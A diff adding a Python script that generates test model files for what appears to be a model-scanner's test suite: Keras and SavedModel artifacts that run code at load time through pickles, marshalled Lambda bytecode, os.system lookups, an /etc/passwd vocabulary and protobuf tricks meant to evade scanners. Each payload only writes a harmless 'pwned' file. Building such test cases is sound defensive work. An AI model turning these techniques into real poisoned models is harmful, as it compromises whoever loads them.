@@ -1,0 +1,247 @@
+"""Makes test/artifacts/attacks: artifacts that reach out of the model while they are loaded, in ways that scanners overlook.
+
+    PYTHON scripts/make-attacks.py      (Python 3.11 with h5py; the bytecode among them is of the Python that runs this)
+
+Every payload does one thing: it leaves a file named "pwned" in the working directory. scripts/record-loads.py tells
+where real Keras lets it.
+"""
+import base64, codecs, io, json, marshal, os, pickle, shutil, zipfile
+import h5py
+import numpy as np
+
+ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "test", "artifacts")
+OUT = os.path.join(ROOT, "attacks")
+manifest = {}
+
+
+def note(name, kind, what):
+    manifest[name] = {"kind": kind, "category": "unsafe", "what": what}
+    path = os.path.join(OUT, name)
+    if os.path.isdir(path):
+        shutil.rmtree(path)
+    return path
+
+
+def weights():
+    data = io.BytesIO()
+    with h5py.File(data, "w") as file:
+        file.create_group("vars")
+        file.create_group("layers")
+    return data.getvalue()
+
+
+def archive(name, what, config, version, members=None):
+    path = note(name, "keras", what)
+    metadata = {"keras_version": version, "date_saved": "2025-01-01@00:00:00"}
+    parts = {"metadata.json": json.dumps(metadata).encode(), "config.json": json.dumps(config).encode(), **(members or {"model.weights.h5": weights()})}
+    with zipfile.ZipFile(path, "w") as file:
+        for member, data in parts.items():
+            file.writestr(zipfile.ZipInfo(member, (2025, 1, 1, 0, 0, 0)), data)
+
+
+def hdf5(name, what, config, version):
+    path = note(name, "h5", what)
+    with h5py.File(path, "w") as file:
+        file.attrs["model_config"] = json.dumps(config)
+        file.attrs["keras_version"] = version
+        file.attrs["backend"] = "tensorflow"
+        group = file.create_group("model_weights")
+        group.attrs["layer_names"] = []
+        group.attrs["backend"] = "tensorflow"
+        group.attrs["keras_version"] = version
+
+
+def keras(class_name, config, module="keras.layers", **more):
+    return {"module": module, "class_name": class_name, "config": config, "registered_name": None, **more}
+
+
+def input3(name="in", shape=(None, 4)):
+    return keras("InputLayer", {"batch_shape": list(shape), "dtype": "float32", "sparse": False, "name": name})
+
+
+def input2(name="in", shape=(None, 4)):
+    return keras("InputLayer", {"batch_input_shape": list(shape), "dtype": "float32", "sparse": False, "ragged": False, "name": name})
+
+
+def sequential(*layers):
+    return keras("Sequential", {"name": "model", "layers": list(layers)}, "keras")
+
+
+def functional3(entry, after=()):
+    """A functional model of Keras 3 in which one "layer" is whatever `entry` names, called with the arguments it gives."""
+    first = {**input3(), "name": "in", "inbound_nodes": []}
+    dense = {**keras("Flatten", {"name": "flat"}), "name": "flat", "inbound_nodes": [{"args": [tensor("in")], "kwargs": {}}]}
+    config = {"name": "model", "trainable": True, "layers": [first, dense, entry], "input_layers": [["in", 0, 0]], "output_layers": [["flat", 0, 0]]}
+    return keras("Functional", config, "keras.src.models.functional", registered_name="Functional")
+
+
+def tensor(name):
+    return {"class_name": "__keras_tensor__", "config": {"shape": [None, 4], "dtype": "float32", "keras_history": [name, 0, 0]}}
+
+
+def called(module, function, *args, **kwargs):
+    return {"module": module, "class_name": "function", "config": function, "registered_name": "function", "name": "gadget",
+            "inbound_nodes": [{"args": list(args), "kwargs": kwargs}]}
+
+
+def payload():
+    def attack(x):
+        open("pwned", "w").close()
+        return x
+    return attack.__code__
+
+
+code = base64.b64encode(marshal.dumps(payload())).decode()
+wrapped = "\n".join(code[i:i + 60] for i in range(0, len(code), 60))
+
+
+class Pickled:
+    def __reduce__(self):
+        return (os.system, ("touch pwned",))
+
+
+def lambda3(function):
+    return keras("Lambda", {"name": "gadget", "trainable": True, "dtype": "float32", "function": function, "arguments": {}})
+
+
+def bytecode3():
+    return {"class_name": "__lambda__", "config": {"code": wrapped, "defaults": None, "closure": None}}
+
+
+def main():
+    os.makedirs(OUT, exist_ok=True)
+    typespec = {"class_name": "__typespec__", "spec_name": "system", "module": "os", "config": ["touch pwned"], "registered_name": None}
+    dense = {"name": "dense", "units": 2, "trainable": True, "dtype": "float32", "activation": typespec, "use_bias": True}
+    nested = keras("TimeDistributed", {"name": "td", "layer": typespec})
+    archive("typespec_call.keras", "a layer inside another is a __typespec__, whose class Keras looks up wherever the config says: os.system", sequential(input3(), nested), "3.8.0")
+
+    data = io.BytesIO()
+    np.savez(data, **{path: np.array(Pickled(), dtype=object) for path in ("layers/dense", "_layer_checkpoint_dependencies/dense")})
+    flat = sequential(input3(), keras("Flatten", {"name": "flat"}))
+    linear = keras("Dense", {**dense, "activation": "linear"}, build_config={"input_shape": [None, 4]})
+    archive("npz_pickle.keras", "the weights are an .npz whose arrays are pickles", sequential(input3(), linear), "3.8.0", {"model.weights.npz": data.getvalue()})
+    archive("npz_pickle_2.keras", "the same for Keras 2", sequential(input2(), linear), "2.15.0", {"model.weights.npz": data.getvalue()})
+
+    functions = {
+        "os_system": called("os", "system", "touch pwned"),
+        "get_file": called("keras.utils", "get_file", "pwned", origin="file:///etc/hostname", cache_dir=".", cache_subdir="."),
+        "source_module": called("keras.src.utils.file_utils", "get_file", "pwned", origin="file:///etc/hostname", cache_dir=".", cache_subdir="."),
+        "numpy_save": called("numpy", "save", "pwned", [1]),
+        "tensorflow_write": called("tensorflow.python.lib.io.file_io", "write_string_to_file", "pwned", "x"),
+    }
+    for name, entry in functions.items():
+        archive(f"function_{name}.keras", f"a layer is the function {entry['module']}.{entry['config']}, called with arguments of the config", functional3(entry), "3.8.0")
+
+    archive("lambda_in_wrapper.keras", "a Lambda inside TimeDistributed", sequential(input3(shape=(None, 3, 4)), keras("TimeDistributed", {"name": "td", "layer": lambda3(bytecode3())})), "3.8.0")
+    archive("lambda_in_compile.keras", "bytecode as the loss in compile_config", {**flat, "compile_config": {"optimizer": "sgd", "loss": bytecode3()}}, "3.8.0")
+    initializer = {**dense, "activation": "linear", "kernel_initializer": bytecode3()}
+    archive("lambda_in_initializer.keras", "bytecode as an initializer", sequential(input3(), keras("Dense", initializer)), "3.8.0")
+
+    lookup = {"name": "lookup", "trainable": True, "dtype": "string", "vocabulary": "/etc/passwd", "num_oov_indices": 1, "oov_token": "[UNK]", "output_mode": "int", "invert": False, "mask_token": None}
+    text = keras("InputLayer", {"batch_shape": [None, 1], "dtype": "string", "sparse": False, "name": "in"})
+    archive("vocabulary_passwd.keras", "a vocabulary read from /etc/passwd", sequential(text, keras("StringLookup", lookup)), "3.8.0")
+
+    # .h5 of Keras 2
+    plain = lambda class_name, config: {"class_name": class_name, "config": config}
+    first = plain("InputLayer", {"batch_input_shape": [None, 4], "dtype": "float32", "sparse": False, "ragged": False, "name": "in"})
+    legacy = lambda function: plain("Sequential", {"name": "model", "layers": [first, plain("Lambda", {
+        "name": "gadget", "trainable": True, "dtype": "float32", "function": function, "function_type": "lambda", "module": "builtins",
+        "output_shape": None, "output_shape_type": "raw", "output_shape_module": None, "arguments": {}})]})
+    hdf5("lambda_text.h5", "a Lambda whose bytecode is text and not a list", legacy(wrapped), "2.15.0")
+    hdf5("lambda_latin.h5", "a Lambda whose bytecode stands as it is, not in base64", legacy(marshal.dumps(payload()).decode("latin-1")), "2.15.0")
+
+    def functional2(layer):
+        layers = [{**first, "name": "in", "inbound_nodes": []}, {**plain("Flatten", {"name": "flat"}), "name": "flat", "inbound_nodes": [[["in", 0, 0, {}]]]}, layer]
+        return plain("Functional", {"name": "model", "layers": layers, "input_layers": [["in", 0, 0]], "output_layers": [["flat", 0, 0]]})
+
+    def operation(symbol, value, **kwargs):
+        return {**plain("TFOpLambda", {"name": "gadget", "trainable": True, "dtype": "float32", "function": symbol}), "name": "gadget",
+                "inbound_nodes": [["_CONSTANT_VALUE", -1, value, kwargs]]}
+    hdf5("operation_write_file.h5", "a TFOpLambda of io.write_file, called with constants", functional2(operation("io.write_file", "pwned", contents="x")), "2.15.0")
+    hdf5("operation_copy.h5", "a TFOpLambda of io.gfile.copy", functional2(operation("io.gfile.copy", "/etc/hostname", dst="pwned")), "2.15.0")
+    hdf5("operation_get_file.h5", "a TFOpLambda of keras.utils.get_file", functional2(operation("keras.utils.get_file", "pwned", origin="file:///etc/hostname", cache_dir=".", cache_subdir=".")), "2.15.0")
+
+    # SavedModels: bytes that protobuf merges or puts in any order
+    base = os.path.join(ROOT, "tf215", "sm_unsafe_file_ops")
+    saved = open(os.path.join(base, "saved_model.pb"), "rb").read()
+    graphs = list(fields(saved))
+    for name, what, change in (
+        ("sm_second_graph", "a second, empty graph_def behind the first; protobuf merges both", lambda graph: graph + field(2, b"")),
+        ("sm_long_nodes", "a node whose attribute stands first and is longer than a megabyte", lambda graph: b"".join(field(n, padded(payload)) if n == 2 else raw for n, payload, raw in fields(graph))),
+    ):
+        path = note(name, "savedmodel", what)
+        shutil.copytree(base, path)
+        changed = b"".join(field(n, change(payload)) if n == 2 else raw for n, payload, raw in graphs)
+        open(os.path.join(path, "saved_model.pb"), "wb").write(changed)
+        os.path.exists(os.path.join(path, "fingerprint.pb")) and os.remove(os.path.join(path, "fingerprint.pb"))
+    json.dump(manifest, open(os.path.join(OUT, "manifest.json"), "w"), indent=1, sort_keys=True)
+
+
+def padded(graph):
+    """The first node that writes files, with a long attribute in front and its name and operation behind."""
+    out = b""
+    for number, payload, raw in fields(graph):
+        if number == 2:
+            raw = field(2, b"".join(field(1, padded_function(f)) if n == 1 else r for n, f, r in fields(payload)))
+        out += raw
+    return out
+
+
+done = []
+
+
+def padded_function(function):
+    out = b""
+    for number, payload, raw in fields(function):
+        if number == 3 and not done and b"WriteFile" in payload:
+            parts = list(fields(payload))
+            attribute = field(1, b"_pad") + field(2, field(2, b"x" * (3 << 19)))
+            done.append(True)
+            raw = field(3, field(5, attribute) + b"".join(r for _, _, r in reversed(parts)))
+        out += raw
+    return out
+
+
+def varint(data, at):
+    value = shift = 0
+    while True:
+        byte = data[at]
+        value |= (byte & 127) << shift
+        at += 1
+        shift += 7
+        if byte < 128:
+            return value, at
+
+
+def number_bytes(value):
+    out = bytearray()
+    while value > 127:
+        out.append(value & 127 | 128)
+        value >>= 7
+    return bytes(out + bytes([value]))
+
+
+def field(number, payload):
+    return number_bytes(number << 3 | 2) + number_bytes(len(payload)) + payload
+
+
+def fields(data):
+    """The fields of a message: number, payload (empty where it is a number), the bytes as they stand."""
+    at = 0
+    while at < len(data):
+        start = at
+        tag, at = varint(data, at)
+        if tag & 7 == 0:
+            _, at = varint(data, at)
+            payload = b""
+        elif tag & 7 == 2:
+            size, at = varint(data, at)
+            payload = data[at:at + size]
+            at += size
+        else:
+            at += 8 if tag & 7 == 1 else 4
+            payload = b""
+        yield tag >> 3, payload, data[start:at]
+
+
+main()
